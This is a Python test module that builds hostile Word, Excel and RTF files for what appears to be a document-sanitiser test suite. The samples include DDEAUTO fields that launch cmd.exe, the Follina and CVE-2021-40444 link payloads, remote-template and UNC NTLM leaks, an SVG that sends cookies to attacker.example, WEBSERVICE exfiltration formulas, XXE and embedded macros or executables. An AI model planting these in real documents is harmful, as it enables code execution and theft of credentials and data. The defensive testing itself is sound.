"""Hostile Word, Excel and PowerPoint packages.

Benign bases come from python-docx, openpyxl, python-pptx (tests/office_builders.py) and
LibreOffice; each attack is then planted with zipfile text edits, the way maldoc builder
kits do it. Section numbers are ECMA-376 5th edition Part 1 unless said otherwise.
"""

from __future__ import annotations

import html
import posixpath
import re
from pathlib import Path, PurePosixPath

from tests import office_builders as base
from tests.attacks.builders import Expect, sample

RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_RT = "http://schemas.microsoft.com/office/2006/relationships/"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
SETTINGS_RELS = "word/_rels/settings.xml.rels"
SHEET = "xl/worksheets/sheet1.xml"
SLIDE = "ppt/slides/slide1.xml"
SLIDE_RELS = "ppt/slides/_rels/slide1.xml.rels"
CALC = r"c:\\windows\\system32\\cmd.exe"
DDEAUTO = f'DDEAUTO {CALC} "/k calc.exe"'
MSDT = (
    "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu "
    "IT_BrowseForFile=$(calc)i/../../../../../../../../../../../../../Windows/System32/mpsigstub.exe\""
)
MHTML = "mhtml:http://attacker.example/ole.html!x-usc:http://attacker.example/ole.html"
SVG_SCRIPT = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
    "<script>fetch('http://attacker.example/'+document.cookie)</script></svg>"
)
HTML_SCRIPT = "<html><body><p>お知らせ</p><script>new ActiveXObject('WScript.Shell').Run('calc')</script></body></html>"


# ---------------------------------------------------------------- Word helpers
def _docx() -> base.Package:
    return base.Package(base.docx_bytes())


def _run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{html.escape(text)}</w:t></w:r>'


def _simple_field(instruction: str, result: str = "見積書") -> str:
    return f'<w:fldSimple w:instr="{html.escape(instruction)}">{_run(result)}</w:fldSimple>'


def _complex_field(instruction_runs: list[str], result: str = "見積書") -> str:
    """§17.16.18: fldChar begin, instrText runs, fldChar separate, result, fldChar end."""
    instructions = "".join(
        piece if piece.startswith("<") else f'<w:r><w:instrText xml:space="preserve">{html.escape(piece)}</w:instrText></w:r>'
        for piece in instruction_runs
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + instructions
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _run(result)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _word_with(body: str) -> bytes:
    package = _docx()
    package.body_append(f"<w:p>{body}</w:p>")
    return package.bytes()


def _add_part(package: base.Package, part: str, data: bytes | str, content_type: str,
              rels: str, rel_id: str, rel_type: str) -> None:
    """A new part, its content type and the relationship that reaches it (target relative to `rels`' owner)."""
    package.put(part, data)
    package.content_type("/" + part, content_type)
    owner = str(PurePosixPath(rels).parent.parent)
    package.add_rel(rels, rel_id, rel_type, posixpath.relpath(part, owner) if owner != "." else part)


def _word_rel_element(rel_type: str, target: str, element: str, external: bool = True) -> bytes:
    package = _docx()
    package.add_rel(DOCUMENT_RELS, "rIdAtk", rel_type, target, external)
    package.body_append(element)
    return package.bytes()


# ---------------------------------------------------------------- Word: controls
@sample("docx_benign", ".docx", "control", "python-docx document with a picture", Expect.RELEASED)
def docx_benign(work: Path) -> bytes:
    return base.docx_bytes()


@sample(
    "docx_harmless_fields", ".docx", "control",
    "§17.16.5: PAGE, DATE and an https HYPERLINK field are everyday fields", Expect.RELEASED,
)
def docx_harmless_fields(work: Path) -> bytes:
    return _word_with(
        _simple_field("PAGE", "1")
        + _complex_field([" DATE \\@ \"yyyy/MM/dd\" "], "2026/11/28")
        + _complex_field([' HYPERLINK "https://www.city.example.lg.jp/" '], "市のサイト")
    )


@sample("docx_libreoffice_dde", ".docx", "dde-field", "LibreOffice-written docx; SensePost 2017 DDEAUTO")
def docx_libreoffice_dde(work: Path) -> bytes:
    source = work / "lo_base.rtf"
    source.write_bytes(b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard \\u33883?\\u20986?\\u27809? memo\\par}")
    package = base.Package(base.libreoffice(work, source, "docx:MS Word 2007 XML").read_bytes())
    text = package.text("word/document.xml")
    field = f"<w:p>{_simple_field(DDEAUTO)}</w:p>"
    head, tail = text.rsplit("<w:sectPr", 1)
    package.put("word/document.xml", head + field + "<w:sectPr" + tail)
    return package.bytes()


# ---------------------------------------------------------------- Word: DDE and fields
@sample("docx_ddeauto_fldsimple", ".docx", "dde-field", "SensePost 2017 'Macro-less code exec in MSWord'; §17.16.5.13")
def docx_ddeauto_fldsimple(work: Path) -> bytes:
    return _word_with(_simple_field(DDEAUTO))


@sample("docx_dde_split_runs", ".docx", "dde-field", "§17.16.18 complex field; instruction split over runs")
def docx_dde_split_runs(work: Path) -> bytes:
    return _word_with(_complex_field(["DD", "EAUTO ", CALC, ' "/k calc.exe"']))


@sample("docx_dde_lowercase", ".docx", "dde-field", "§17.16.1: field names are case-insensitive")
def docx_dde_lowercase(work: Path) -> bytes:
    return _word_with(_complex_field([f"  dde {CALC} \"/c calc.exe\" "]))


@sample("docx_dde_charrefs", ".docx", "dde-field", "XML 1.0 §4.1 character references in instr")
def docx_dde_charrefs(work: Path) -> bytes:
    package = _docx()
    field = '<w:p><w:fldSimple w:instr="&#68;&#68;&#69;AUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">' \
        + _run("x") + "</w:fldSimple></w:p>"
    package.body_append(field)
    return package.bytes()


@sample("docx_several_fields_one_paragraph", ".docx", "dde-field", "§17.16: fields are runs; a paragraph may hold many")
def docx_several_fields_one_paragraph(work: Path) -> bytes:
    return _word_with(
        _simple_field("PAGE", "1") + _run(" / ") + _complex_field([DDEAUTO])
        + _complex_field([" NUMPAGES "], "3")
    )


@sample("docx_nested_quote_builds_dde", ".docx", "dde-field", "§17.16.5.51 QUOTE; nested fields build the keyword (Sophos 2017)")
def docx_nested_quote_builds_dde(work: Path) -> bytes:
    inner = _complex_field([" QUOTE 68 68 69 65 85 84 79 "], "DDEAUTO")
    return _word_with(_complex_field([inner, f" {CALC} \"/k calc\" "]))


@sample("docx_dde_nested_in_if", ".docx", "dde-field", "§17.16.5.29 IF with a nested DDEAUTO in its true text")
def docx_dde_nested_in_if(work: Path) -> bytes:
    inner = _complex_field([DDEAUTO])
    return _word_with(_complex_field([" IF 1 = 1 \"", inner, "\" \"\" "]))


@sample("docx_dde_in_header", ".docx", "dde-field", "§17.10.4 header part; fields run there too")
def docx_dde_in_header(work: Path) -> bytes:
    package = _docx()
    header = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr xmlns:w="{W_NS}">'
        f"<w:p>{_simple_field(DDEAUTO)}</w:p></w:hdr>"
    )
    _add_part(package, "word/header9.xml", header, "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
              DOCUMENT_RELS, "rIdHdr9", RT + "header")
    text = package.text("word/document.xml")
    reference = '<w:headerReference w:type="default" r:id="rIdHdr9"/>'
    package.put("word/document.xml", re.sub(r"(<w:sectPr[^>]*>)", lambda m: m.group(1) + reference, text, count=1))
    return package.bytes()


@sample("docx_includepicture_http", ".docx", "remote-field", "§17.16.5.33 INCLUDEPICTURE; web bug / NTLM leak write-ups")
def docx_includepicture_http(work: Path) -> bytes:
    return _word_with(_simple_field('INCLUDEPICTURE "http://attacker.example/track.png" \\d'))


@sample("docx_includepicture_unc", ".docx", "remote-field", "§17.16.5.33; UNC path leaks NTLM hashes (Pentestlab 2017)")
def docx_includepicture_unc(work: Path) -> bytes:
    return _word_with(_complex_field(['INCLUDEPICTURE "\\\\\\\\attacker.example\\\\share\\\\a.png" \\d \\* MERGEFORMAT']))


@sample("docx_includetext_unc", ".docx", "remote-field", "§17.16.5.34 INCLUDETEXT")
def docx_includetext_unc(work: Path) -> bytes:
    return _word_with(_simple_field('INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\payload.docx"'))


@sample("docx_link_field", ".docx", "remote-field", "§17.16.5.36 LINK to an OLE server with a UNC source")
def docx_link_field(work: Path) -> bytes:
    return _word_with(_simple_field('LINK Excel.Sheet.8 "\\\\\\\\attacker.example\\\\s\\\\book.xls" "Sheet1!R1C1" \\a \\p'))


def _hyperlink_field_sample(name: str, target: str, note: str) -> None:
    @sample(name, ".docx", "hyperlink-field", note)
    def build(work: Path) -> bytes:
        return _word_with(_complex_field([f' HYPERLINK "{target}" '], "請求書を開く"))


_hyperlink_field_sample("docx_hyperlink_field_file", "file:///C:/Windows/System32/calc.exe", "§17.16.5.32 HYPERLINK to file:")
_hyperlink_field_sample("docx_hyperlink_field_unc", "\\\\\\\\attacker.example\\\\share\\\\x.exe", "§17.16.5.32 HYPERLINK to UNC")
_hyperlink_field_sample("docx_hyperlink_field_msmsdt", MSDT.replace('"', "'"), "Follina CVE-2022-30190 ms-msdt: scheme")
_hyperlink_field_sample(
    "docx_hyperlink_field_searchms",
    "search-ms:query=invoice&crumb=location:\\\\\\\\attacker.example@80\\\\share",
    "search-ms: URI abuse (Hacker House / Trellix 2022)",
)


@sample("docx_hyperlink_rel_file", ".docx", "external-relationship", "§17.16.22 hyperlink with an external file: relationship")
def docx_hyperlink_rel_file(work: Path) -> bytes:
    return _word_rel_element(
        RT + "hyperlink", "file:///C:/Windows/System32/calc.exe",
        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("開く") + "</w:hyperlink></w:p>",
    )


@sample("docx_hyperlink_rel_msmsdt", ".docx", "external-relationship", "Follina CVE-2022-30190: ms-msdt: as a link target")
def docx_hyperlink_rel_msmsdt(work: Path) -> bytes:
    return _word_rel_element(
        RT + "hyperlink", html.escape(MSDT),
        '<w:p><w:hyperlink r:id="rIdAtk">' + _run("詳細") + "</w:hyperlink></w:p>",
    )


# ---------------------------------------------------------------- Word: templates, OLE, frames
@sample("docx_remote_template_http", ".docx", "remote-template", "§17.15.1.6 attachedTemplate; template injection (Cisco Talos 2017)")
def docx_remote_template_http(work: Path) -> bytes:
    return _remote_template("http://attacker.example/t.dotm")


@sample("docx_remote_template_unc", ".docx", "remote-template", "§17.15.1.6 attachedTemplate over SMB (NTLM leak)")
def docx_remote_template_unc(work: Path) -> bytes:
    return _remote_template("\\\\attacker.example\\share\\t.dotm")


def _remote_template(target: str, rel_type: str = RT + "attachedTemplate") -> bytes:
    package = _docx()
    package.add_rel(SETTINGS_RELS, "rIdTpl", rel_type, html.escape(target), external=True)
    settings = package.text("word/settings.xml")
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1)
    if 'xmlns:r="' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
    package.put("word/settings.xml", settings)
    return package.bytes()


@sample(
    "docx_template_via_hyperlink_rel", ".docx", "remote-template",
    "issue #8 §1: attachedTemplate naming a relationship declared as a hyperlink",
)
def docx_template_via_hyperlink_rel(work: Path) -> bytes:
    return _remote_template("https://attacker.example/t.dotm", RT + "hyperlink")


@sample("docx_oleobject_mhtml", ".docx", "external-relationship", "CVE-2021-40444 (MSRC, Sept 2021): external oleObject with mhtml:")
def docx_oleobject_mhtml(work: Path) -> bytes:
    return _word_rel_element(
        RT + "oleObject", html.escape(MHTML),
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="_x0000_i1025" '
        'DrawAspect="Content" r:id="rIdAtk" UpdateMode="OnCall"><o:LinkType>EnhancedMetaFile</o:LinkType>'
        "<o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>",
    )


@sample("docx_follina_oleobject", ".docx", "external-relationship", "Follina CVE-2022-30190: document.xml.rels oleObject to http ...html!")
def docx_follina_oleobject(work: Path) -> bytes:
    return _word_rel_element(
        RT + "oleObject", "http://attacker.example/index.html!",
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rIdAtk" UpdateMode="Always"/>'
        "</w:object></w:r></w:p>",
    )


@sample("docx_frame_websettings", ".docx", "frames", "§17.15.2.13 frameset/frame with an external source (NTLM leak)")
def docx_frame_websettings(work: Path) -> bytes:
    package = _docx()
    package.add_rel("word/_rels/webSettings.xml.rels", "rIdFrame", RT + "frame", "http://attacker.example/frame.docx", True)
    web = package.text("word/webSettings.xml")
    if "xmlns:r=" not in web:
        web = web.replace("<w:webSettings ", f'<w:webSettings xmlns:r="{RT[:-1]}" ', 1)
    frames = '<w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>'
    web = re.sub(r"(<w:webSettings[^>]*?)(/?)>", lambda m: m.group(1) + ">" + frames + ("</w:webSettings>" if m.group(2) else ""), web, count=1)
    package.put("word/webSettings.xml", web)
    return package.bytes()


@sample("docx_subdocument_unc", ".docx", "frames", "§17.17.2 subDoc: master document pulling a remote part")
def docx_subdocument_unc(work: Path) -> bytes:
    return _word_rel_element(RT + "subDocument", "\\\\attacker.example\\share\\sub.docx", '<w:p><w:subDoc r:id="rIdAtk"/></w:p>')


def _altchunk(name: str, content_type: str, data: str) -> bytes:
    package = _docx()
    package.put(f"word/{name}", data)
    package.add_rel(DOCUMENT_RELS, "rIdChunk", RT + "aFChunk", name)
    package.content_type(f"/word/{name}", content_type)
    package.body_append('<w:altChunk r:id="rIdChunk"/>')
    return package.bytes()


@sample("docx_altchunk_html", ".docx", "altchunk", "§17.17.1.1 altChunk importing HTML with script")
def docx_altchunk_html(work: Path) -> bytes:
    return _altchunk("chunk.html", "text/html", HTML_SCRIPT)


@sample("docx_altchunk_mht", ".docx", "altchunk", "§17.17.1.1 altChunk importing MHT (message/rfc822)")
def docx_altchunk_mht(work: Path) -> bytes:
    mht = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"
        "Content-Type: text/html\r\nContent-Location: file:///C:/a.htm\r\n\r\n" + HTML_SCRIPT + "\r\n--b--\r\n"
    )
    return _altchunk("chunk.mht", "message/rfc822", mht)


@sample("docx_customui_onload", ".docx", "customui", "[MS-CUSTOMUI] §2.3 customUI onLoad callback calling a macro")
def docx_customui_onload(work: Path) -> bytes:
    return _with_customui(_docx())


def _with_customui(package: base.Package) -> bytes:
    package.put(
        "customUI/customUI14.xml",
        '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoRun">'
        '<ribbon><tabs><tab id="t" label="x"><group id="g" label="g"><button id="b" label="b" onAction="Run"/>'
        "</group></tab></tabs></ribbon></customUI>",
    )
    package.add_rel("_rels/.rels", "rIdUi", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                    "customUI/customUI14.xml")
    return package.bytes()


def _vba_everywhere(package: base.Package, folder: str, rels: str, main_old: str, main_new: str) -> bytes:
    """[MS-OFFMACRO] §2.2: vbaProject part, its vbaData and key-map customisations."""
    package.put(f"{folder}/vbaProject.bin", base.real_vba_project())
    package.add_rel(rels, "rIdVba", MS_RT + "vbaProject", "vbaProject.bin")
    package.content_type(f"/{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    package.main_type(main_old, main_new)
    return package.bytes()


@sample("docm_vba", ".docm", "macros", "[MS-OFFMACRO] §2.2.1 vbaProject part of a macro-enabled document")
def docm_vba(work: Path) -> bytes:
    return _vba_everywhere(_docx(), "word", DOCUMENT_RELS, base.DOCX_MAIN, base.DOCM_MAIN)


@sample("docx_vba_in_docx", ".docx", "macros", "[MS-OFFMACRO] vbaProject inside a package typed as macro-free")
def docx_vba_in_docx(work: Path) -> bytes:
    package = _docx()
    _add_part(package, "word/vbaProject.bin", base.real_vba_project(), "application/vnd.ms-office.vbaProject",
              DOCUMENT_RELS, "rIdVba", MS_RT + "vbaProject")
    package.put("word/vbaData.xml", '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>')
    package.content_type("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
    return package.bytes()


@sample("docx_vba_disguised_as_png", ".docx", "macros", "OPC §10.1.2: the content type, not the name, says what a part is")
def docx_vba_disguised_as_png(work: Path) -> bytes:
    package = _docx()
    _add_part(package, "word/media/logo.png", base.real_vba_project(), "application/vnd.ms-office.vbaProject",
              DOCUMENT_RELS, "rIdVba", MS_RT + "vbaProject")
    return package.bytes()


@sample("docx_keymap_customizations", ".docx", "macros", "[MS-DOCX] keyMapCustomizations binding keys to macros")
def docx_keymap_customizations(work: Path) -> bytes:
    package = _docx()
    keymap = (
        '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps>'
        '<wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="PROJECT.MODULE1.AUTOOPEN"/></wne:keymap>'
        "</wne:keymaps></wne:tcg>"
    )
    _add_part(package, "word/customizations.xml", keymap, "application/vnd.ms-word.keyMapCustomizations+xml",
              DOCUMENT_RELS, "rIdKeys", MS_RT + "keyMapCustomizations")
    return package.bytes()


@sample("docx_activex_control", ".docx", "macros", "[MS-OFORMS] ActiveX control part + w:control (§17.3.3.5)")
def docx_activex_control(work: Path) -> bytes:
    package = _docx()
    control = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" '
        f'xmlns:r="{RT[:-1]}"/>'
    )
    _add_part(package, "word/activeX/activeX1.xml", control, "application/vnd.ms-office.activeX+xml",
              DOCUMENT_RELS, "rIdAx", RT + "control")
    package.body_append('<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="TextBox1"/></w:object></w:r></w:p>')
    return package.bytes()


@sample("docx_ole_package_exe", ".docx", "ole-embedding", "[MS-OLEDS] Package (Packager Shell Object) embedding an .exe")
def docx_ole_package_exe(work: Path) -> bytes:
    package = _docx()
    _add_part(package, "word/embeddings/oleObject1.bin", _packager_ole1(),
              "application/vnd.openxmlformats-officedocument.oleObject", DOCUMENT_RELS, "rIdOle", RT + "oleObject")
    package.body_append(
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" '
        'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
    )
    return package.bytes()


def _packager_ole1() -> bytes:
    # Not a valid CFB on purpose: whatever it is, an embedding must not cross.
    return b"\x02\x00invoice.exe\x00C:\\Temp\\invoice.exe\x00" + b"MZ\x90\x00" + b"\x00" * 200


@sample("docx_mailmerge_datasource", ".docx", "external-relationship", "§17.14.9 mailMerge dataSource to a remote workbook")
def docx_mailmerge_datasource(work: Path) -> bytes:
    package = _docx()
    package.add_rel(SETTINGS_RELS, "rIdMm", RT + "mailMergeSource", "\\\\attacker.example\\share\\list.xlsx", True)
    settings = package.text("word/settings.xml")
    if 'xmlns:r="' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", f'<w:settings xmlns:r="{RT[:-1]}" ', 1)
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\share\\list.xlsx"/>'
        '<w:query w:val="SELECT * FROM `Sheet1$`"/><w:dataSource r:id="rIdMm"/></w:mailMerge>'
    )
    settings = re.sub(r"(<w:settings[^>]*>)", r"\1" + merge.replace("\\", "\\\\"), settings, count=1)
    package.put("word/settings.xml", settings)
    return package.bytes()


@sample("docx_linked_picture_unc", ".docx", "external-relationship", "§20.1.8.13 blip r:link: a picture fetched from a UNC path")
def docx_linked_picture_unc(work: Path) -> bytes:
    package = _docx()
    package.add_rel(DOCUMENT_RELS, "rIdLink", RT + "image", "\\\\attacker.example\\share\\p.png", True)
    text = package.text("word/document.xml")
    package.put("word/document.xml", re.sub(r'r:embed="(rId\d+)"', r'r:embed="\1" r:link="rIdLink"', text, count=1))
    return package.bytes()


# ---------------------------------------------------------------- pictures and markup parts
def _replace_picture(data: bytes, content_type: str, suffix: str) -> bytes:
    package = _docx()
    package.put(f"word/media/image1.{suffix}", data)
    rels = package.text(DOCUMENT_RELS).replace("media/image1.png", f"media/image1.{suffix}")
    package.put(DOCUMENT_RELS, rels)
    del package.parts["word/media/image1.png"]
    package.content_type(f"/word/media/image1.{suffix}", content_type)
    return package.bytes()


@sample("docx_svg_picture_script", ".docx", "markup-part", "§20.1.8.13 + [MS-ODRAWXML] svgBlip: SVG with script")
def docx_svg_picture_script(work: Path) -> bytes:
    package = base.Package(_replace_picture(SVG_SCRIPT.encode(), "image/svg+xml", "svg"))
    return package.bytes()


@sample("docx_emf_picture", ".docx", "markup-part", "[MS-EMF] metafile picture (EMR records can carry anything)")
def docx_emf_picture(work: Path) -> bytes:
    return _replace_picture(_emf(), "image/x-emf", "emf")


@sample("docx_wmf_picture", ".docx", "markup-part", "[MS-WMF] placeable metafile picture with an ESCAPE record")
def docx_wmf_picture(work: Path) -> bytes:
    header = bytes.fromhex("d7cdc69a0000000000000a000a00600000000000" + "0000")
    body = bytes.fromhex("010009000003") + b"\x40\x00\x00\x00" + b"\x00\x00" + b"\x00\x00\x00\x00" + b"\x00\x00"
    escape = (12).to_bytes(4, "little") + (0x0626).to_bytes(2, "little") + b"<script>x</script>"[:16]
    return _replace_picture(header + body + escape + b"\x03\x00\x00\x00\x00\x00", "image/x-wmf", "wmf")


def _emf() -> bytes:
    header = bytearray(108)
    header[0:4] = (1).to_bytes(4, "little")  # EMR_HEADER
    header[4:8] = (108).to_bytes(4, "little")
    header[40:44] = b" EMF"
    header[44:48] = (0x10000).to_bytes(4, "little")
    comment = b"<script>alert(1)</script>"
    record = (70).to_bytes(4, "little") + (12 + len(comment)).to_bytes(4, "little") + comment  # EMR_COMMENT
    eof = (14).to_bytes(4, "little") + (20).to_bytes(4, "little") + b"\x00" * 12
    return bytes(header) + record + eof


@sample("docx_png_that_is_html", ".docx", "markup-part", "OPC: content type image/png over HTML bytes (MIME confusion)")
def docx_png_that_is_html(work: Path) -> bytes:
    package = _docx()
    package.put("word/media/image1.png", HTML_SCRIPT)
    return package.bytes()


@sample("docx_namespace_prefix_trick", ".docx", "prefix-trick", "XML Namespaces §6: the prefix is arbitrary; only the URI counts")
def docx_namespace_prefix_trick(work: Path) -> bytes:
    package = _docx()
    field = (
        f'<w:p><evil:fldSimple xmlns:evil="{W_NS}" evil:instr="DDEAUTO {CALC} &quot;/k calc&quot;">'
        f'<x:r xmlns:x="{W_NS}"><x:t>x</x:t></x:r></evil:fldSimple>'
        f'<w:r><instrText xmlns="{W_NS}">ignored</instrText></w:r></w:p>'
    )
    package.body_append(field)
    return package.bytes()


@sample("docx_default_namespace_field", ".docx", "prefix-trick", "XML Namespaces §6.2: a default namespace instead of w:")
def docx_default_namespace_field(work: Path) -> bytes:
    package = _docx()
    package.body_append(
        f'<p xmlns="{W_NS}"><r><fldChar fldCharType="begin"/></r><r><instrText> DDEAUTO {CALC} "/k calc" </instrText></r>'
        '<r><fldChar fldCharType="separate"/></r><r><t>x</t></r><r><fldChar fldCharType="end"/></r></p>'
    )
    return package.bytes()


@sample("docx_doctype_entities", ".docx", "prefix-trick", "XML 1.0 §4.2 internal entities hiding DDEAUTO (and XXE)")
def docx_doctype_entities(work: Path) -> bytes:
    package = _docx()
    text = package.text("word/document.xml")
    text = text.replace(
        "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [<!ENTITY d "DDEAUTO">'
        '<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        1,
    )
    text = text.replace("<w:sectPr", f'<w:p><w:fldSimple w:instr="&d; {CALC} &quot;/k calc&quot;">{_run("x")}</w:fldSimple></w:p><w:sectPr', 1)
    package.put("word/document.xml", text)
    return package.bytes()


@sample("docx_glossary_dde", ".docx", "dde-field", "§17.12 glossary document: a second story with its own fields")
def docx_glossary_dde(work: Path) -> bytes:
    package = _docx()
    glossary = (
        f'<w:glossaryDocument xmlns:w="{W_NS}"><w:docParts><w:docPart><w:docPartBody><w:p>'
        f"{_simple_field(DDEAUTO)}</w:p></w:docPartBody></w:docPart></w:docParts></w:glossaryDocument>"
    )
    _add_part(package, "word/glossary/document.xml", glossary,
              "application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml",
              DOCUMENT_RELS, "rIdGl", RT + "glossaryDocument")
    return package.bytes()


# ---------------------------------------------------------------- Legacy formats via LibreOffice / RTF
@sample("rtf_ddeauto", ".rtf", "dde-field", "RTF 1.9.1 \\field\\fldinst: DDEAUTO in RTF (converted to docx)")
def rtf_ddeauto(work: Path) -> bytes:
    return (
        b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}\\pard Invoice \\par"
        b"{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc.exe\"}}"
        b"{\\fldrslt {x}}}\\par"
        b"{\\field{\\*\\fldinst {INCLUDEPICTURE \"http://attacker.example/t.png\" \\\\d}}{\\fldrslt {y}}}\\par}"
    )


@sample("doc_dde_via_libreoffice", ".doc", "dde-field", "Word 97 binary with a DDEAUTO field (LibreOffice-written)")
def doc_dde_via_libreoffice(work: Path) -> bytes:
    source = work / "dde_source.rtf"
    source.write_bytes(rtf_ddeauto(work))
    return base.libreoffice(work, source, "doc:MS Word 97").read_bytes()


# ---------------------------------------------------------------- Excel
def _xlsx(formula_cell: str | None = None, workbook_extra: str = "", sheet_extra: str = "") -> base.Package:
    package = base.Package(base.xlsx_bytes())
    if formula_cell is not None:
        package.put(SHEET, package.text(SHEET).replace("<c r=\"B4\"><f>SUM(B2:B3)</f><v></v></c>", formula_cell))
    if workbook_extra:
        package.put("xl/workbook.xml", package.text("xl/workbook.xml").replace("<definedNames/>", workbook_extra))
    if sheet_extra:
        package.put(SHEET, package.text(SHEET).replace("<pageMargins", sheet_extra + "<pageMargins"))
    return package


@sample("xlsx_benign", ".xlsx", "control", "openpyxl workbook with values and SUM", Expect.RELEASED)
def xlsx_benign(work: Path) -> bytes:
    return base.xlsx_bytes()


@sample("xlsx_formula_text_is_not_live", ".xlsx", "control",
        "SpreadsheetML §18.3.1.4: a string cell is text, not a formula", Expect.RELEASED)
def xlsx_formula_text_is_not_live(work: Path) -> bytes:
    return _xlsx('<c r="B4" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>').bytes()


def _formula_sample(name: str, formula_xml: str, note: str, attack: str = "dde-formula") -> None:
    @sample(name, ".xlsx", attack, note)
    def build(work: Path) -> bytes:
        return _xlsx(f'<c r="B4">{formula_xml}<v>0</v></c>').bytes()


_formula_sample("xlsx_dde_formula", "<f>cmd|' /C calc'!A0</f>", "OWASP CSV/Formula Injection; DDE in a cell formula")
_formula_sample("xlsx_dde_charref_pipe", "<f>cmd&#124;' /C calc'!A0</f>", "XML §4.1: &#124; is '|'")
_formula_sample("xlsx_dde_hex_charref", "<f>MSEXCEL&#x7C;'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f>",
                "XML §4.1 hex reference; MSEXCEL| DDE variant (2018 write-ups)")
_formula_sample("xlsx_dde_in_expression", "<f>-2+3+cmd|' /C calc'!A0</f>", "OWASP: DDE behind arithmetic")
_formula_sample("xlsx_dde_shared", "<f t=\"shared\" ref=\"B4:B6\" si=\"0\">cmd|' /C calc'!A0</f>",
                "§18.3.1.40 shared formula master cell")
_formula_sample("xlsx_dde_array", "<f t=\"array\" ref=\"B4\">cmd|' /C calc'!A0</f>", "§18.3.1.40 array formula")
_formula_sample("xlsx_webservice", "<f>WEBSERVICE(\"http://attacker.example/?\"&amp;A2)</f>",
                "Excel WEBSERVICE exfiltration (NotSoSecure 2018)", "dangerous-function")
_formula_sample("xlsx_call_winexec", "<f>CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</f>",
                "XLM CALL via a cell (Outflank 'Excel 4.0 macros' 2018)", "dangerous-function")
_formula_sample("xlsx_register", "<f>REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"Run\")</f>",
                "XLM REGISTER (Outflank 2018)", "dangerous-function")
_formula_sample("xlsx_rtd", "<f>RTD(\"attacker.progid\",,\"x\")</f>", "RTD real-time data COM server", "dangerous-function")
_formula_sample("xlsx_hyperlink_function_file", "<f>HYPERLINK(\"file:///C:/Windows/System32/calc.exe\",\"開く\")</f>",
                "HYPERLINK() to file:", "dangerous-function")
_formula_sample("xlsx_external_ref_unc", "<f>'\\\\attacker.example\\share\\[book.xlsx]Sheet1'!A1</f>",
                "§18.17.2.3 external reference in a formula (NTLM leak)", "external-workbook")
_formula_sample("xlsx_external_index_ref", "<f>[1]Sheet1!A1</f>", "§18.17.2.3 external reference by link index",
                "external-workbook")
_formula_sample("xlsx_xlfn_prefix_webservice", "<f>_xlfn.WEBSERVICE(\"http://attacker.example/\")</f>",
                "[MS-XLSX] _xlfn. future-function prefix", "dangerous-function")


@sample("xlsx_dde_defined_name", ".xlsx", "dde-formula", "§18.2.5 definedName whose formula is DDE")
def xlsx_dde_defined_name(work: Path) -> bytes:
    names = "<definedNames><definedName name=\"Payload\">cmd|' /C calc'!A0</definedName></definedNames>"
    return _xlsx('<c r="B4"><f>Payload</f><v>0</v></c>', names).bytes()


@sample("xlsx_dde_conditional_format", ".xlsx", "dde-formula", "§18.3.1.10 cfRule expression formula")
def xlsx_dde_conditional_format(work: Path) -> bytes:
    rule = (
        '<conditionalFormatting sqref="A1:B4"><cfRule type="expression" priority="1">'
